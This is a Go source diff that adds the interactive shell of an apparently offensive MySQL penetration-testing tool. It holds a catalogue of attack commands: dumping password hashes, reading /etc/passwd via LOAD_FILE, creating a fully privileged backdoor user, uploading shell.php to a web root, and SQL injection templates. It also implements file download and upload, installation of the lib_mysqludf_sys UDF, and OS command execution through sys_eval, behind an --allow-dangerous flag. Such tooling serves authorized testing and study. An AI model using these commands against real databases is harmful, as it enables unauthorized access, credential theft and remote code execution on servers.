@@ -0,0 +1,805 @@
+package core
+
+import (
+    "context"
+    "database/sql"
+    "fmt"
+    "io"
+    "strings"
+
+    "github.com/peterh/liner"
+)
+
+// PentestCategory defines a category of pentest commands
+type PentestCategory struct {
+    Name        string
+    Description string
+    Commands    []PentestCommand
+}
+
+// PentestCommand defines a specific MySQL command for pentesting
+type PentestCommand struct {
+    Name        string
+    Description string
+    Command     string
+    Example     string
+    Dangerous   bool
+}
+
+// getMySQLPentestCommands returns a list of categories and commands for MySQL pentesting
+func getMySQLPentestCommands() []PentestCategory {
+    return []PentestCategory{
+        {
+            Name:        "Enumeration",
+            Description: "Commands for gathering information about the database server",
+            Commands: []PentestCommand{
+                {
+                    Name:        "Version",
+                    Description: "Get MySQL server version",
+                    Command:     "SELECT VERSION();",
+                    Example:     "SELECT VERSION();",
+                    Dangerous:   false,
+                },
+                {
+                    Name:        "User Information",
+                    Description: "Get current user and privileges",
+                    Command:     "SELECT USER(), CURRENT_USER();",
+                    Example:     "SELECT USER(), CURRENT_USER();",
+                    Dangerous:   false,
+                },
+                {
+                    Name:        "User Privileges",
+                    Description: "Show current user's privileges",
+                    Command:     "SHOW GRANTS;",
+                    Example:     "SHOW GRANTS;",
+                    Dangerous:   false,
+                },
+                {
+                    Name:        "All Users",
+                    Description: "List all users in the MySQL server",
+                    Command:     "SELECT user, host FROM mysql.user;",
+                    Example:     "SELECT user, host FROM mysql.user;",
+                    Dangerous:   false,
+                },
+                {
+                    Name:        "List Databases",
+                    Description: "Show all accessible databases",
+                    Command:     "SHOW DATABASES;",
+                    Example:     "SHOW DATABASES;",
+                    Dangerous:   false,
+                },
+                {
+                    Name:        "List Tables",
+                    Description: "Show tables in current/specified database",
+                    Command:     "SHOW TABLES FROM database_name;",
+                    Example:     "SHOW TABLES FROM information_schema;",
+                    Dangerous:   false,
+                },
+                {
+                    Name:        "Table Structure",
+                    Description: "Show structure of a table",
+                    Command:     "DESCRIBE database_name.table_name;",
+                    Example:     "DESCRIBE mysql.user;",
+                    Dangerous:   false,
+                },
+                {
+                    Name:        "Configuration",
+                    Description: "View important MySQL configuration variables",
+                    Command:     "SHOW VARIABLES;",
+                    Example:     "SHOW VARIABLES LIKE '%version%';",
+                    Dangerous:   false,
+                },
+                {
+                    Name:        "Processes",
+                    Description: "View running processes/queries",
+                    Command:     "SHOW PROCESSLIST;",
+                    Example:     "SHOW PROCESSLIST;",
+                    Dangerous:   false,
+                },
+            },
+        },
+        {
+            Name:        "Data Extraction",
+            Description: "Commands for extracting data from the database",
+            Commands: []PentestCommand{
+                {
+                    Name:        "Basic Select",
+                    Description: "Select data from a table with limit",
+                    Command:     "SELECT * FROM database_name.table_name LIMIT 10;",
+                    Example:     "SELECT * FROM mysql.user LIMIT 10;",
+                    Dangerous:   false,
+                },
+                {
+                    Name:        "Column Selection",
+                    Description: "Select specific columns",
+                    Command:     "SELECT column1, column2 FROM database_name.table_name LIMIT 10;",
+                    Example:     "SELECT user, host, authentication_string FROM mysql.user LIMIT 10;",
+                    Dangerous:   false,
+                },
+                {
+                    Name:        "Conditional Select",
+                    Description: "Select data with conditions",
+                    Command:     "SELECT * FROM database_name.table_name WHERE column_name = 'value';",
+                    Example:     "SELECT * FROM mysql.user WHERE user = 'root';",
+                    Dangerous:   false,
+                },
+                {
+                    Name:        "Table Search",
+                    Description: "Search for tables with specific names",
+                    Command:     "SELECT table_schema, table_name FROM information_schema.tables WHERE table_name LIKE '%pattern%';",
+                    Example:     "SELECT table_schema, table_name FROM information_schema.tables WHERE table_name LIKE '%user%';",
+                    Dangerous:   false,
+                },
+                {
+                    Name:        "Column Search",
+                    Description: "Search for columns with specific names",
+                    Command:     "SELECT table_schema, table_name, column_name FROM information_schema.columns WHERE column_name LIKE '%pattern%';",
+                    Example:     "SELECT table_schema, table_name, column_name FROM information_schema.columns WHERE column_name LIKE '%pass%';",
+                    Dangerous:   false,
+                },
+            },
+        },
+        {
+            Name:        "Authentication",
+            Description: "Commands related to user authentication and password hashes",
+            Commands: []PentestCommand{
+                {
+                    Name:        "Password Hashes",
+                    Description: "Get password hashes (MySQL < 5.7)",
+                    Command:     "SELECT user, host, password FROM mysql.user;",
+                    Example:     "SELECT user, host, password FROM mysql.user;",
+                    Dangerous:   false,
+                },
+                {
+                    Name:        "Authentication String",
+                    Description: "Get password hashes (MySQL >= 5.7)",
+                    Command:     "SELECT user, host, authentication_string FROM mysql.user;",
+                    Example:     "SELECT user, host, authentication_string FROM mysql.user;",
+                    Dangerous:   false,
+                },
+                {
+                    Name:        "Plugin Info",
+                    Description: "Get authentication plugin information",
+                    Command:     "SELECT user, host, plugin FROM mysql.user;",
+                    Example:     "SELECT user, host, plugin FROM mysql.user;",
+                    Dangerous:   false,
+                },
+                {
+                    Name:        "Create User",
+                    Description: "Create a new user",
+                    Command:     "CREATE USER 'username'@'host' IDENTIFIED BY 'password';",
+                    Example:     "CREATE USER 'pentester'@'%' IDENTIFIED BY 'Password123!';",
+                    Dangerous:   true,
+                },
+                {
+                    Name:        "Grant Privileges",
+                    Description: "Grant privileges to a user",
+                    Command:     "GRANT ALL PRIVILEGES ON database_name.* TO 'username'@'host';",
+                    Example:     "GRANT ALL PRIVILEGES ON *.* TO 'pentester'@'%' WITH GRANT OPTION;",
+                    Dangerous:   true,
+                },
+            },
+        },
+        {
+            Name:        "File System Access",
+            Description: "Commands for accessing the underlying file system",
+            Commands: []PentestCommand{
+                {
+                    Name:        "Load File",
+                    Description: "Read a file from the server's filesystem",
+                    Command:     "SELECT LOAD_FILE('/path/to/file');",
+                    Example:     "SELECT LOAD_FILE('/etc/passwd');",
+                    Dangerous:   false,
+                },
+                {
+                    Name:        "Download File",
+                    Description: "Save a server file locally byte for byte (shell command, binary safe)",
+                    Command:     "download /path/to/file [local_path]",
+                    Example:     "download /var/lib/mysql/mysql/user.MYD",
+                    Dangerous:   true,
+                },
+                {
+                    Name:        "Upload File",
+                    Description: "Write a local file to the server byte for byte (shell command, checks secure_file_priv)",
+                    Command:     "upload local_file /path/to/remote_file",
+                    Example:     "upload shell.php /var/www/html/shell.php",
+                    Dangerous:   true,
+                },
+                {
+                    Name:        "Install UDF",
+                    Description: "Upload lib_mysqludf_sys into plugin_dir and create sys_exec/sys_eval (shell command, builds from --udf-dir)",
+                    Command:     "udf install",
+                    Example:     "udf install",
+                    Dangerous:   true,
+                },
+                {
+                    Name:        "OS Command",
+                    Description: "Run an operating system command through sys_eval (shell command, after udf install)",
+                    Command:     "!command",
+                    Example:     "!id",
+                    Dangerous:   true,
+                },
+                {
+                    Name:        "Secure File Priv",
+                    Description: "Check file write restrictions",
+                    Command:     "SHOW VARIABLES LIKE 'secure_file_priv';",
+                    Example:     "SHOW VARIABLES LIKE 'secure_file_priv';",
+                    Dangerous:   false,
+                },
+                {
+                    Name:        "Export to File",
+                    Description: "Write query results to a file",
+                    Command:     "SELECT field FROM table INTO OUTFILE '/path/to/file';",
+                    Example:     "SELECT * FROM mysql.user INTO OUTFILE '/tmp/users.txt';",
+                    Dangerous:   true,
+                },
+                {
+                    Name:        "Import from File",
+                    Description: "Load data from a file into a table",
+                    Command:     "LOAD DATA INFILE '/path/to/file' INTO TABLE database_name.table_name;",
+                    Example:     "LOAD DATA INFILE '/tmp/data.csv' INTO TABLE my_database.my_table;",
+                    Dangerous:   true,
+                },
+            },
+        },
+        {
+            Name:        "Advanced Techniques",
+            Description: "Advanced MySQL penetration testing techniques",
+            Commands: []PentestCommand{
+                {
+                    Name:        "Union Select",
+                    Description: "Basic UNION SELECT template for SQL injection",
+                    Command:     "UNION SELECT column1, column2, ... FROM table_name",
+                    Example:     "' UNION SELECT 1,2,3,4,5,6,7,8,9,10 -- -",
+                    Dangerous:   false,
+                },
+                {
+                    Name:        "SQL Information Schema",
+                    Description: "Query valuable information from information_schema",
+                    Command:     "SELECT table_schema, table_name FROM information_schema.tables;",
+                    Example:     "SELECT table_schema, table_name FROM information_schema.tables WHERE table_schema != 'information_schema' AND table_schema != 'mysql';",
+                    Dangerous:   false,
+                },
+                {
+                    Name:        "Blind SQL Injection",
+                    Description: "Blind SQL injection template using SLEEP()",
+                    Command:     "SELECT IF(condition, true_result, false_result)",
+                    Example:     "SELECT IF(SUBSTR(user(),1,1)='r', SLEEP(5), 0);",
+                    Dangerous:   false,
+                },
+                {
+                    Name:        "Command Execution",
+                    Description: "Execute system commands (requires UDF)",
+                    Command:     "SELECT sys_exec('command');",
+                    Example:     "SELECT sys_exec('id');",
+                    Dangerous:   true,
+                },
+            },
+        },
+    }
+}
+
+// displayPentestCommands shows available pentest commands for MySQL
+func (e *Engine) displayPentestCommands() {
+    categories := getMySQLPentestCommands()
+
+    fmt.Fprintln(e.out, "\nMySQL Penetration Testing Commands:")
+    fmt.Fprintln(e.out, "=================================")
+
+    for _, category := range categories {
+        e.theme.heading.Fprintf(e.out, "\n%s - %s\n", category.Name, category.Description)
+
+        for _, cmd := range category.Commands {
+            if cmd.Dangerous {
+                e.theme.warning.Fprintf(e.out, "  ⚠ %s: %s\n", cmd.Name, cmd.Description)
+            } else {
+                e.theme.info.Fprintf(e.out, "  • %s: %s\n", cmd.Name, cmd.Description)
+            }
+            fmt.Fprintf(e.out, "    Command: %s\n", cmd.Command)
+            fmt.Fprintf(e.out, "    Example: %s\n", cmd.Example)
+        }
+    }
+
+    fmt.Fprintln(e.out, "\nNote: Commands marked with ⚠ are potentially dangerous and require --allow-dangerous flag.")
+    fmt.Fprintln(e.out, "For more information on a specific category, type 'pentest category_name'")
+}
+
+// displayPentestCategoryDetail shows detailed commands for a specific category
+func (e *Engine) displayPentestCategoryDetail(categoryName string) {
+    categories := getMySQLPentestCommands()
+    categoryName = strings.ToLower(categoryName)
+
+    for _, category := range categories {
+        if strings.ToLower(category.Name) == categoryName {
+            e.theme.heading.Fprintf(e.out, "\n%s Commands - %s\n", category.Name, category.Description)
+            e.theme.heading.Fprintln(e.out, "==============================================")
+
+            for _, cmd := range category.Commands {
+                if cmd.Dangerous {
+                    e.theme.warning.Fprintf(e.out, "\n⚠ %s\n", cmd.Name)
+                    fmt.Fprintln(e.out, "  Description: "+cmd.Description+" (DANGEROUS)")
+                } else {
+                    e.theme.info.Fprintf(e.out, "\n• %s\n", cmd.Name)
+                    fmt.Fprintln(e.out, "  Description: "+cmd.Description)
+                }
+                fmt.Fprintln(e.out, "  Command:     "+cmd.Command)
+                fmt.Fprintln(e.out, "  Example:     "+cmd.Example)
+            }
+            fmt.Fprintln(e.out, "\nTo execute a command, simply type it at the mysql> prompt.")
+            return
+        }
+    }
+
+    fmt.Fprintf(e.out, "Category '%s' not found. Available categories:\n", categoryName)
+    for _, category := range categories {
+        fmt.Fprintf(e.out, "  • %s\n", category.Name)
+    }
+}
+
+// enterInteractiveMode provides an interactive shell for database commands
+func (e *Engine) enterInteractiveMode(ctx context.Context, sess *session, user string) {
+    fmt.Fprintln(e.out, e.tr("shell.enter"))
+    line := e.newLineEditor()
+    defer line.Close()
+    prompt := "mysql> "
+
+    // Set database for use command
+    var currentDB string
+
+    // Values last given for each :name placeholder, offered again at its prompt
+    paramValues := make(map[string]string)
+
+    // Set by \o, sends the next query's rows to a local file
+    var export *queryExport
+
+    // Tab completes keywords and schema names, cached per connection
+    completer := e.newSQLCompleter(ctx, sess.db, &currentDB)
+    line.SetWordCompleter(completer.complete)
+
+    // Fit result tables to the terminal, following resizes
+    watchCtx, stopWatch := context.WithCancel(ctx)
+    defer stopWatch()
+    e.watchTermWidth(watchCtx)
+
+    // SQL is collected until a ; or \g ends it, so statements can span lines and pasted
+    // blocks run statement by statement
+    var pending string
+    var queue []string
+
+    for {
+        var cmd string
+        if len(queue) > 0 {
+            cmd, queue = queue[0], queue[1:]
+        } else {
+            // Show current database in prompt if one is selected
+            currentPrompt := prompt
+            if pending != "" {
+                currentPrompt = continuationPrompt
+            } else if currentDB != "" {
+                currentPrompt = fmt.Sprintf("mysql [%s]> ", currentDB)
+            }
+
+            input, err := line.Prompt(currentPrompt)
+            if err == liner.ErrPromptAborted {
+                // Ctrl-C clears the line and any unfinished statement like the mysql client
+                pending = ""
+                continue
+            }
+            if err == io.EOF {
+                fmt.Fprintln(e.out)
+                fmt.Fprintln(e.out, e.tr("shell.exit"))
+                return
+            }
+            if err != nil {
+                e.printError("%s", e.tr("shell.read_error", err))
+                return
+            }
+            trimmed := strings.TrimSpace(input)
+
+            if pending == "" && isShellCommand(trimmed) {
+                line.AppendHistory(trimmed)
+                cmd = trimmed
+            } else {
+                if strings.HasSuffix(trimmed, `\c`) {
+                    // \c abandons the statement being typed
+                    pending = ""
+                    continue
+                }
+                if pending == "" && trimmed == "" {
+                    continue
+                }
+                stmts, rest := splitStatements(pending + input + "\n")
+                pending = rest
+                if len(stmts) == 0 {
+                    continue
+                }
+                for _, stmt := range stmts {
+                    // History keeps a statement on one line so it can be recalled and edited
+                    line.AppendHistory(strings.ReplaceAll(stmt, "\n", " ") + ";")
+                }
+                cmd, queue = stmts[0], stmts[1:]
+            }
+        }
+
+        // Handle special commands
+        switch strings.ToLower(cmd) {
+        case "exit", "quit", "\\q":
+            fmt.Fprintln(e.out, e.tr("shell.exit"))
+            return
+        case "help", "\\h", "\\?":
+            e.displayInteractiveHelp()
+            continue
+        case "status", "\\s":
+            e.displayStatus(ctx, sess)
+            continue
+        case "pentest", "\\p":
+            e.displayPentestCommands()
+            continue
+        case "\\w":
+            fmt.Fprintln(e.out, e.toggleTableWrap())
+            continue
+        }
+
+        // Send the next query's rows to a local file
+        if lower := strings.ToLower(cmd); lower == "\\o" || strings.HasPrefix(lower, "\\o ") {
+            exp, err := parseExportCommand(cmd)
+            if err != nil {
+                e.printError("%s", e.tr("shell.error", err))
+                continue
+            }
+            export = exp
+            if export == nil {
+                fmt.Fprintln(e.out, e.tr("shell.export_off"))
+            } else {
+                fmt.Fprintln(e.out, e.tr("shell.export_on", export.path, strings.ToUpper(export.format)))
+            }
+            continue
+        }
+
+        // Fetch a server-side file with LOAD_FILE into the loot directory
+        if strings.HasPrefix(strings.ToLower(cmd), "download ") {
+            if !e.opts.AllowDangerous {
+                e.printWarning("%s", e.tr("cmd.blocked", cmd))
+                continue
+            }
+            remote, local, err := e.parseDownloadArgs(cmd)
+            if err != nil {
+                e.printError("%s", e.tr("shell.error", err))
+                continue
+            }
+            execCtx, cancel := e.withQueryTimeout(ctx)
+            size, err := e.downloadFile(execCtx, sess, remote, local)
+            cancel()
+            if err != nil {
+                e.printError("%s", e.tr("shell.download_error", remote, err))
+                continue
+            }
+            e.printSuccess("%s", e.tr("shell.downloaded", remote, size, local))
+            e.emitRecord("download", map[string]interface{}{"user": user, "remote": remote, "local": local, "bytes": size})
+            continue
+        }
+
+        // Write a local file to the server with INTO DUMPFILE
+        if strings.HasPrefix(strings.ToLower(cmd), "upload ") {
+            if !e.opts.AllowDangerous {
+                e.printWarning("%s", e.tr("cmd.blocked", cmd))
+                continue
+            }
+            local, remote, err := parseUploadArgs(cmd)
+            if err != nil {
+                e.printError("%s", e.tr("shell.error", err))
+                continue
+            }
+            execCtx, cancel := e.withQueryTimeout(ctx)
+            size, err := uploadFile(execCtx, sess, local, remote)
+            cancel()
+            if err != nil {
+                e.printError("%s", e.tr("shell.upload_error", local, err))
+                continue
+            }
+            e.printSuccess("%s", e.tr("shell.uploaded", local, size, remote))
+            e.emitRecord("upload", map[string]interface{}{"user": user, "local": local, "remote": remote, "bytes": size})
+            continue
+        }
+
+        // Install or remove the lib_mysqludf_sys command execution functions
+        if lower := strings.ToLower(cmd); lower == "udf install" || lower == "udf remove" {
+            if !e.opts.AllowDangerous {
+                e.printWarning("%s", e.tr("cmd.blocked", cmd))
+                continue
+            }
+            execCtx, cancel := e.withQueryTimeout(ctx)
+            if lower == "udf install" {
+                result, err := e.deployUDF(execCtx, sess)
+                if err != nil {
+                    e.printError("%s", e.tr("shell.udf_error", err))
+                } else {
+                    e.printSuccess("%s", result)
+                    e.emitRecord("udf", map[string]interface{}{"user": user, "result": result})
+                }
+            } else if err := e.removeUDF(execCtx, sess); err != nil {
+                e.printError("%s", e.tr("shell.udf_drop_error", err))
+            } else {
+                e.printSuccess("%s", e.tr("shell.udf_dropped"))
+            }
+            cancel()
+            continue
+        }
+
+        // Run an OS command through sys_eval
+        if strings.HasPrefix(cmd, "!") {
+            if !e.opts.AllowDangerous {
+                e.printWarning("%s", e.tr("cmd.blocked", cmd))
+                continue
+            }
+            command := strings.TrimSpace(strings.TrimPrefix(cmd, "!"))
+            if command == "" {
+                e.printError("%s", e.tr("shell.os_usage"))
+                continue
+            }
+            execCtx, cancel := e.withQueryTimeout(ctx)
+            output, err := runOSCommand(execCtx, sess, command)
+            cancel()
+            if err != nil {
+                e.printError("%s", e.tr("shell.os_error", err))
+                e.emitRecord("os_command", map[string]interface{}{"user": user, "command": command, "error": err.Error()})
+                continue
+            }
+            fmt.Fprint(e.out, output)
+            if !strings.HasSuffix(output, "\n") {
+                fmt.Fprintln(e.out)
+            }
+            e.emitRecord("os_command", map[string]interface{}{"user": user, "command": command, "output": output})
+            continue
+        }
+
+        // Keep context gathered in the shell with the account's results
+        if strings.HasPrefix(strings.ToLower(cmd), "note ") {
+            text := strings.TrimSpace(cmd[len("note "):])
+            if text == "" {
+                e.printError("%s", e.tr("shell.note_usage"))
+                continue
+            }
+            e.addNote(e.opts.Host, e.opts.Port, user, text)
+            e.printSuccess("%s", e.tr("shell.note_added", user, e.opts.Host, e.opts.Port))
+            continue
+        }
+
+        // Handle pentest category display
+        if strings.HasPrefix(strings.ToLower(cmd), "pentest ") {
+            categoryName := strings.TrimSpace(strings.TrimPrefix(strings.ToLower(cmd), "pentest "))
+            e.displayPentestCategoryDetail(categoryName)
+            continue
+        }
+
+        // Special handling for SHOW DATABASES command
+        if commandMatches(cmd, "SHOW DATABASES") {
+            execCtx, cancel := e.withQueryTimeout(ctx)
+            rows, err := sess.query(execCtx, "SHOW DATABASES")
+            if err != nil {
+                e.printError("%s", e.tr("shell.db_list_error", err))
+                cancel()
+                continue
+            }
+
+            fmt.Fprintln(e.out, e.tr("shell.db_list"))
+            fmt.Fprintln(e.out, "-------------------")
+            count := 0
+
+            for rows.Next() {
+                var dbName string
+                if err := rows.Scan(&dbName); err != nil {
+                    e.printError("%s", e.tr("shell.db_name_error", err))
+                    continue
+                }
+
+                if isSystemDB(dbName) {
+                    // Show system databases in a different color
+                    e.printWarning("%s", e.tr("shell.db_system", dbName))
+                } else {
+                    // Show user databases with usage hint
+                    e.printSuccess("  %s (use `%s`;)", dbName, dbName)
+                }
+                count++
+            }
+
+            rows.Close()
+            cancel()
+
+            if count == 0 {
+                fmt.Fprintln(e.out, e.tr("shell.db_none"))
+            } else {
+                fmt.Fprintln(e.out, e.tr("shell.db_count", count))
+            }
+            continue
+        }
+
+        // Handle USE database command to track current database
+        if strings.HasPrefix(strings.ToUpper(cmd), "USE ") {
+            if !e.allowInteractive(line, cmd) {
+                continue
+            }
+            // Extract the database name preserving its original case
+            dbNamePart := strings.TrimSpace(strings.TrimPrefix(cmd, "USE "))
+            dbNamePart = strings.TrimPrefix(dbNamePart, "use ")
+
+            // Remove backticks, quotes, and trailing semicolons
+            dbName := strings.Trim(dbNamePart, "`'\"")
+            dbName = strings.TrimSuffix(dbName, ";")
+
+            // Execute the USE command with the exact case
+            execCtx, cancel := e.withQueryTimeout(ctx)
+            _, err := sess.exec(execCtx, fmt.Sprintf("USE `%s`", dbName))
+            cancel()
+
+            if err != nil {
+                e.printError("%s", e.tr("shell.db_change_error", dbName, err))
+            } else {
+                currentDB = dbName
+                fmt.Fprintln(e.out, e.tr("shell.db_changed", dbName))
+            }
+            continue
+        }
+
+        // Check the statement against the policy
+        if !e.allowInteractive(line, cmd) {
+            continue
+        }
+
+        // A trailing INTO LOCAL FILE 'path' exports just this query
+        query, localFile := splitIntoLocalFile(cmd)
+        if localFile != nil && !isQueryCommand(query) {
+            e.printError("%s", e.tr("shell.into_local"))
+            continue
+        }
+
+        // Prompt for :name placeholders and bind the values in a prepared statement
+        query, names := parseNamedParams(query)
+        var args []interface{}
+        if len(names) > 0 {
+            var err error
+            args, err = promptParams(line, names, paramValues)
+            if err == liner.ErrPromptAborted {
+                continue
+            }
+            if err != nil {
+                e.printError("%s", e.tr("shell.read_error", err))
+                continue
+            }
+        }
+
+        // Execute SQL command with appropriate timeout; Ctrl-C cancels just this statement
+        execCtx, cancel := e.foregroundContext(ctx)
+
+        if isQueryCommand(cmd) {
+            rows, err := sess.query(execCtx, query, args...)
+            if err != nil {
+                e.printError("%s", e.tr("cmd.query_error", err))
+                cancel() // Cancel context to avoid resource leak
+                continue
+            }
+
+            if exp := localFile; exp != nil || export != nil {
+                if exp == nil {
+                    exp, export = export, nil
+                }
+                count, err := e.exportQueryResults(rows.Rows, exp)
+                cancel()
+                rows.Close()
+                if err != nil {
+                    e.printError("%s", e.tr("shell.write_error", exp.path, err))
+                    continue
+                }
+                e.printSuccess("%s", e.tr("shell.rows_written", count, exp.path))
+                e.emitRecord("export", map[string]interface{}{"user": user, "command": query, "file": exp.path, "format": exp.format, "rows": count})
+                continue
+            }
+
+            result := e.formatQueryResults(rows.Rows, e.rowLimitGuard(line))
+            // Cancel before closing so rows left unread are not drained from the server
+            cancel()
+            rows.Close()
+            e.page(line, result)
+        } else {
+            _, err := sess.exec(execCtx, query, args...)
+            cancel() // Cancel context after use
+            if err != nil {
+                e.printError("%s", e.tr("cmd.exec_error", err))
+                continue
+            }
+            fmt.Fprintln(e.out, e.tr("cmd.success"))
+
+            // Schema changes make the cached completions stale
+            switch getSqlVerb(cmd) {
+            case "CREATE", "DROP", "ALTER", "RENAME":
+                completer.invalidate()
+            }
+        }
+    }
+}
+
+// displayStatus shows connection and server information
+func (e *Engine) displayStatus(ctx context.Context, sess *session) {
+    fmt.Fprintln(e.out, "--------------")
+    fmt.Fprintln(e.out, e.tr("status.connection", e.opts.SingleUser, e.opts.Host, e.opts.Port))
+
+    // Get server version
+    var version string
+    err := sess.queryRow(ctx, "SELECT VERSION()", &version)
+    if err != nil {
+        fmt.Fprintln(e.out, e.tr("status.version_error"))
+    } else {
+        fmt.Fprintln(e.out, e.tr("status.version", version))
+    }
+
+    // Get current user
+    var user string
+    err = sess.queryRow(ctx, "SELECT CURRENT_USER()", &user)
+    if err != nil {
+        fmt.Fprintln(e.out, e.tr("status.user_error"))
+    } else {
+        fmt.Fprintln(e.out, e.tr("status.user", user))
+    }
+
+    // Get current database if any
+    var database sql.NullString
+    err = sess.queryRow(ctx, "SELECT DATABASE()", &database)
+    if err != nil {
+        fmt.Fprintln(e.out, e.tr("status.db_error"))
+    } else if database.Valid {
+        fmt.Fprintln(e.out, e.tr("status.db", database.String))
+    } else {
+        fmt.Fprintln(e.out, e.tr("status.db_none"))
+    }
+
+    fmt.Fprintln(e.out, "--------------")
+}
+
+// displayInteractiveHelp shows available commands in interactive mode
+func (e *Engine) displayInteractiveHelp() {
+    fmt.Fprintln(e.out, "Available commands:")
+    fmt.Fprintln(e.out, "  help (\\h, \\?)       Display this help menu")
+    fmt.Fprintln(e.out, "  exit (quit, \\q)      Exit interactive mode")
+    fmt.Fprintln(e.out, "  status (\\s)          Display connection information")
+    fmt.Fprintln(e.out, "  pentest (\\p)         Show MySQL pentest commands and examples")
+    fmt.Fprintln(e.out, "  pentest <category>    Show detailed commands for a specific category")
+    fmt.Fprintln(e.out, "  \\W                    Toggle between truncating and wrapping columns wider than the terminal")
+    fmt.Fprintln(e.out, "                        Results taller than the terminal are paged (see --pager); queries ask")
+    fmt.Fprintln(e.out, "                        before fetching more than --row-limit rows")
+    fmt.Fprintln(e.out, "  \\o [csv|json|jsonl] <file>  Write the next query's rows to a local file (\\o alone cancels)")
+    fmt.Fprintln(e.out, "  <query> INTO LOCAL FILE '<file>'  Write this query's rows to a local file, format from the extension")
+    fmt.Fprintln(e.out, "  download <remote> [local]  Save a server file read with LOAD_FILE (default: under --loot-dir)")
+    fmt.Fprintln(e.out, "  upload <local> <remote>    Write a local file on the server with INTO DUMPFILE")
+    fmt.Fprintln(e.out, "  udf install|remove         Create or drop sys_exec/sys_eval from lib_mysqludf_sys")
+    fmt.Fprintln(e.out, "  !<command>                 Run an OS command through sys_eval")
+    fmt.Fprintln(e.out, "  note <text>                Attach a note to this account, kept in the results DB and reports")
+    fmt.Fprintln(e.out, "  USE <database>        Switch to specified database")
+    fmt.Fprintln(e.out, "  SHOW DATABASES;       List all databases")
+    fmt.Fprintln(e.out, "  SHOW TABLES;          List tables in the current database")
+    fmt.Fprintln(e.out, "  DESCRIBE <table>;     Show table structure")
+    fmt.Fprintln(e.out, "  SELECT * FROM <table> LIMIT 10;  Show limited contents of a table")
+    fmt.Fprintln(e.out, "  Any valid SQL command can be executed. SQL runs once it ends with ; or \\g and may span")
+    fmt.Fprintln(e.out, "  several lines (shown by the    -> prompt); \\c or Ctrl-C abandons an unfinished statement.")
+    fmt.Fprintln(e.out, "  :name placeholders prompt for values bound in a prepared statement (\\N for NULL),")
+    fmt.Fprintln(e.out, "  e.g. SELECT * FROM users WHERE login = :login;")
+    fmt.Fprintln(e.out)
+    fmt.Fprintln(e.out, "Editing: Tab completes keywords and database, table and column names.")
+    fmt.Fprintln(e.out, "         Up/Down browse history, Ctrl-R searches it, Ctrl-C clears the line, Ctrl-D exits.")
+    fmt.Fprintln(e.out, "         Ctrl-C while a statement runs cancels it and keeps the rows fetched so far.")
+    fmt.Fprintln(e.out, "History is saved to ~/.sqlblaster_history.")
+    fmt.Fprintln(e.out)
+    fmt.Fprintln(e.out, "Note: Use --allow-dangerous flag at startup to enable potentially destructive commands.")
+}
+
+// isQueryCommand determines if an SQL command is a query that returns rows
+func isQueryCommand(cmd string) bool {
+    verb := getSqlVerb(cmd)
+    queryVerbs := []string{"SELECT", "SHOW", "DESCRIBE", "DESC", "EXPLAIN"}
+
+    for _, v := range queryVerbs {
+        if verb == v {
+            return true
+        }
+    }
+    return false
+}